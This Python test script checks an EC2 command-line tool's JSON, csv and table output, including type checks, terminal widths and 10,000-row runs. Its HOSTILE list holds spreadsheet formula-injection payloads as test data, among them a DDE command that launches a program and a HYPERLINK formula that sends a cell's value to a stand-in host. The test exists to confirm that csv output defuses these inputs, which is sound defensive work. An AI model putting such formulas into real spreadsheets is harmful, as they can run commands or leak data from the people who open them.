#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Tests that other programs can read the output formats.  JSON's values have
types, and its rows can be joined by their ids.  Python and a spreadsheet can
read csv, and spreadsheets treat no cell as a formula.  Tables fit terminals of
40 to 300 columns.  The test also prints 10,000 rows."""
import concurrent.futures
import csv
import fcntl
import json
import os
import pty
import re
import shlex
import shutil
import struct
import subprocess
import sys
import termios
import unicodedata
import zipfile

BIN, TMP = os.environ["BIN"], os.environ["TMP"]
REPLAY = os.path.join(os.path.dirname(BIN), "tests", "replay")
CASES = "tests/cases"
BOOLEANS = {"Confirmed", "DeleteOnTermination", "EbsOptimized", "EnaSupport",
            "Encrypted", "MultiAttachEnabled", "Return", "SourceDestCheck"}
NUMBERS = {"AmiLaunchIndex", "DeviceIndex", "FromPort", "Iops", "Size",
           "StateCode", "Throughput", "ToPort", "VolumeSize"}
LISTS = {"Groups", "Message", "ProductCodes", "SecurityGroups"}
# Columns whose values are strings, even if they are "true", "false" or digits.
FREE = {"Value", "ItemValue"}
# Columns whose values are strings, even if they consist of digits.
DIGITS = FREE | {"Fingerprint", "IpOwner", "Owner", "OwnerID", "Peer",
                 "ProductCode"}
# Columns in which some cases have "x", which EC2 does not send.
ODD = {"Iops"}
# For each type of row: the column with the resource's id.  The rows about parts
# of the resource follow, and repeat the id.
BELOW = {"IMAGE": "ImageID", "INSTANCE": "InstanceID",
         "SNAPSHOT": "SnapshotID", "VOLUME": "VolumeID",
         "RESERVATION": "ReservationID", "NIC": "NetworkInterfaceID"}
HOSTILE = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
           '=HYPERLINK("http://x/?"&A1,"y")', "=cmd|'/C calc'!A0",
           "a,=1+1", 'a",=1+1,"', "a;=1+1", " =1+1", "\uff1d1+1", "\uff0b1",
           "\uff0d1", "\uff20SUM(A1)", "-1.5", "+12", "plain", "\"", "'=1"]
failures = []
checks = 0


def check(what, got, want=True):
    global checks
    checks += 1
    if got != want:
        failures.append(f"{what}: got {got!r:.300}, want {want!r:.300}")


def environment():
    env = {k: v for k, v in os.environ.items()
           if k == "PATH" or k.endswith("SAN_OPTIONS")}
    return {**env, "HOME": "/nonexistent", "TZ": "UTC", "LC_ALL": "C.UTF-8",
            "AWS_EC2_METADATA_DISABLED": "true"}


def line_of(folder, argv):
    return [REPLAY, folder, os.path.join(BIN, argv[0]), "-O", "AKIDEXAMPLE",
            "-W", "secret", "-U", "@URL@", *argv[1:]]


def run(folder, argv, stdin=None):
    with open(stdin or os.devnull, "rb") as given:
        done = subprocess.run(line_of(folder, argv), env=environment(),
                              stdin=given, capture_output=True, timeout=60,
                              check=False)
    return done.stdout.decode(), done.returncode


def text_of(value):
    """Returns a JSON value in the form of text, tables and csv."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return ",".join(f"[{v['Type']}: {v['ProductCode']}]"
                        if isinstance(v, dict) else v for v in value)
    return "" if value is None else str(value)


def check_types(case, row):
    for key, value in row.items():
        what = f"{case}: {key}"
        if value is None or (key in ODD and value == "x"):
            continue
        if key in BOOLEANS:
            check(what, type(value), bool)
        elif key in NUMBERS:
            check(what, type(value), int)
        elif key in LISTS:
            check(what, type(value), list)
        else:
            check(what, type(value), str)
            check(what + " is not a boolean",
                  value in ("true", "false") and key not in FREE, False)
            check(what + " is not a number", bool(re.fullmatch(r"-?\d+", value))
                  and key not in DIGITS, False)


def check_ids(case, rows):
    """Checks that a row about a part of a resource has the resource's id."""
    above = {}
    for row in rows:
        kind = row.get("Type")
        if kind in BELOW:
            above[BELOW[kind]] = row[BELOW[kind]]
        if kind == "RESERVATION":
            above = {"ReservationID": row["ReservationID"]}
        if kind in ("INSTANCE", "IMAGE", "VOLUME", "SNAPSHOT"):
            above.pop("NetworkInterfaceID", None)
        if kind in ("BLOCKDEVICE", "BLOCKDEVICEMAPPING", "NIC", "ATTACHMENT",
                    "NICATTACHMENT", "NICASSOCIATION", "PRIVATEIPADDRESS"):
            for key, value in above.items():
                if key in ("SnapshotID", "VolumeID") and kind != "ATTACHMENT":
                    continue
                if kind in ("BLOCKDEVICE", "BLOCKDEVICEMAPPING") \
                        and key == "NetworkInterfaceID":
                    continue
                check(f"{case}: {kind}'s {key}", row.get(key), value)


def as_json(case):
    folder = f"{CASES}/{case}"
    with open(f"{folder}/cmd", encoding="utf-8") as file:
        argv = shlex.split(file.read())
    stdin = f"{folder}/stdin"
    stdin = stdin if os.path.exists(stdin) else None
    if any(a.startswith(("--output", "--rows", "--columns", "--raw"))
           for a in argv) or not os.path.exists(f"{BIN}/{argv[0]}"):
        return case, argv, stdin, []
    out, _ = run(folder, argv + ["--output", "json"], stdin)
    return case, argv, stdin, [json.loads(line)
                               for line in out.splitlines()]


def every_command():
    """Runs the cases with JSON, and one case for each command and type of row
    with csv."""
    samples = {}
    with concurrent.futures.ThreadPoolExecutor(3) as pool:
        for case, argv, stdin, rows in pool.map(as_json,
                                                sorted(os.listdir(CASES))):
            for row in rows:
                check_types(case, row)
            check_ids(case, rows)
            for kind in {row.get("Type") for row in rows}:
                samples[argv[0], kind] = case, argv, stdin, [
                    row for row in rows if row.get("Type") == kind]
    check("over 80 pairs of command and type", len(samples) > 80)
    for (_, kind), (case, argv, stdin, rows) in sorted(samples.items(),
                                                       key=str):
        chosen = ["--rows", kind] if kind else []
        out, status = run(f"{CASES}/{case}",
                          argv + ["--output", "csv"] + chosen, stdin)
        # csv cannot hold a document, or a key that EC2 sends only once.
        if "Output" in rows[0] or "KeyMaterial" in rows[0]:
            check(f"{case}: csv is refused", (status, out), (2, ""))
            continue
        table = list(csv.reader(out.splitlines()))
        what = f"{case}: {kind} in csv"
        check(what + " has a heading", bool(table))
        if not table:
            continue
        check(what + ", CR LF after each line",
              all(line.endswith("\r") for line in out.split("\n")[:-1]))
        check(what + ", keys", set(rows[0]) <= set(table[0]))
        check(what + ", rows", len(table) - 1, len(rows))
        for cells, row in zip(table[1:], rows):
            cells = dict(zip(table[0], cells))
            for key, value in row.items():
                want = text_of(value).replace("\n", "\\n")
                got = cells[key]
                check(f"{what}, {key}", got == want or got == "'" + want)


def reply(folder, tags, images=1):
    os.mkdir(folder)
    tags = "".join(f"<item><key>{k}</key><value>{v}</value></item>"
                   for k, v in tags)
    with open(f"{folder}/DescribeImages.200.xml", "w", encoding="utf-8",
              newline="") as file:
        file.write("<DescribeImagesResponse><imagesSet>")
        for n in range(images):
            file.write(f"<item><imageId>ami-{n:08x}</imageId><imageLocation>"
                       f"seller/\u65e5\u672c\u8a9e {n}</imageLocation>"
                       "<name>\u4e00e\u0301\U0001f600 name</name>"
                       "<description>\u9577\u3044\u8aac\u660e a long "
                       "description, with wide characters</description>"
                       "<imageState>available</imageState><isPublic>true"
                       "</isPublic><architecture>x86_64</architecture>"
                       "<rootDeviceType>ebs</rootDeviceType>"
                       f"<tagSet>{tags}</tagSet></item>")
        file.write("</imagesSet></DescribeImagesResponse>\n")
    return folder


def escaped(value):
    for old, new in (("&", "&amp;"), ("<", "&lt;"), ("\r", "&#13;"),
                     ("\n", "&#10;"), ("\t", "&#9;")):
        value = value.replace(old, new)
    return value


def spreadsheet():
    folder = reply(f"{TMP}/hostile",
                   [(n, escaped(v)) for n, v in enumerate(HOSTILE)])
    argv = ["ec2-describe-images", "-a", "--output", "csv", "--rows", "TAG",
            "--columns", "Key,Value"]
    out, status = run(folder, argv)
    check("status of csv", status, 0)
    rows = list(csv.reader(out.splitlines()))
    check("csv's heading", rows[0], ["Key", "Value"])
    check("csv's rows", len(rows) - 1, len(HOSTILE))
    for value, (_, cell) in zip(HOSTILE, rows[1:]):
        number = re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", value)
        check(f"csv of {value!r} is not a formula", bool(number) or cell[0] not in
              "=+-@\t\r\uff1d\uff0b\uff0d\uff20")
        want = value
        for old, new in (("\t", "\\t"), ("\r", "\\r"), ("\n", "\\n")):
            want = want.replace(old, new)
        check(f"csv of {value!r}", cell in (want, "'" + want))
    name = f"{TMP}/hostile.csv"
    with open(name, "w", encoding="utf-8", newline="") as file:
        file.write(out)
    open_in_spreadsheets(name)


def open_in_spreadsheets(name):
    """Checks in real spreadsheets, if they are installed, that no cell is a
    formula."""
    found = False
    for program, words in (
            ("ssconvert", ["-T", "Gnumeric_OpenCalc:odf", name,
                           f"{TMP}/hostile.ods"]),
            ("soffice", [f"-env:UserInstallation=file://{TMP}/office",
                         "--headless", "--convert-to", "ods", "--outdir", TMP,
                         name])):
        if not shutil.which(program):
            continue
        found = True
        done = subprocess.run([program, *words], capture_output=True,
                              timeout=200, check=False, env={
                                  **os.environ, "HOME": TMP,
                                  "LC_ALL": "C.UTF-8"})
        check(f"{program}'s status", done.returncode, 0)
        with zipfile.ZipFile(f"{TMP}/hostile.ods") as ods:
            content = ods.read("content.xml").decode()
        check(f"{program} finds no formula", "table:formula" in content,
              False)
        check(f"{program} finds the values",
              content.count("cmd|") and content.count("SUM(A1)"), 2)
        os.unlink(f"{TMP}/hostile.ods")
    if not found:
        print("skip forms spreadsheet: neither ssconvert nor soffice is "
              "installed")


def columns(text):
    return sum(0 if unicodedata.combining(c) else
               2 if unicodedata.east_asian_width(c) in "WF" else 1
               for c in text)


def on_terminal(width, folder, argv):
    """Returns the output of ARGV on a terminal that is WIDTH columns wide."""
    pid, fd = pty.fork()
    if not pid:
        fcntl.ioctl(1, termios.TIOCSWINSZ, struct.pack("HHHH", 24, width, 0,
                                                       0))
        os.execve(REPLAY, line_of(folder, argv), environment())
    data = b""
    while True:
        try:
            part = os.read(fd, 65536)
        except OSError:
            break
        if not part:
            break
        data += part
    os.close(fd)
    check(f"status at {width} columns", os.waitpid(pid, 0)[1], 0)
    return data.decode().replace("\r\n", "\n")


def terminal():
    folder = reply(f"{TMP}/wide", [("k", "v" * 50), ("\u30ad\u30fc", "\u5024" * 30)],
                   images=3)
    argv = ["ec2-describe-images", "-a", "--output", "table"]
    whole, _ = run(folder, argv)
    forms = set()
    for width in [*range(40, 301, 13), 80, 132, 300]:
        out = on_terminal(width, folder, argv)
        lines = out.splitlines()
        check(f"lines fit {width} columns", max(map(columns, lines)) <= width)
        for n in range(3):
            check(f"ids at {width} columns", f"ami-{n:08x}" in out)
        check(f"an empty column at {width} columns", "Platform" in out, False)
        records = bool(re.match(r"Type +IMAGE\n", out))
        forms.add(records)
        if not records:
            check(f"one table for each type at {width} columns",
                  sum("ImageID" in line for line in lines), 2)
    check("narrow terminals get records, wide terminals get tables", forms,
          {True, False})
    check("values are whole at 300 columns", on_terminal(300, folder, argv),
          whole)


def many():
    folder = reply(f"{TMP}/many", [], images=10000)
    argv = ["ec2-describe-images", "-a"]
    for words, lines in (([], 10000), (["--output", "json"], 10000),
                         (["--output", "csv", "--rows", "IMAGE"], 10001),
                         (["--output", "table"], 10002)):
        out, status = run(folder, argv + words)
        check(f"10,000 rows, {words}: status", status, 0)
        check(f"10,000 rows, {words}", out.count("\n"), lines)
        check(f"10,000 rows, {words}: each once",
              len(set(re.findall("ami-[0-9a-f]{8}", out))), 10000)


every_command()
spreadsheet()
terminal()
many()
if failures:
    print("\n".join(failures[:40]))
    print(f"{len(failures)} of {checks} checks failed")
    sys.exit(1)
print(f"{checks} checks")
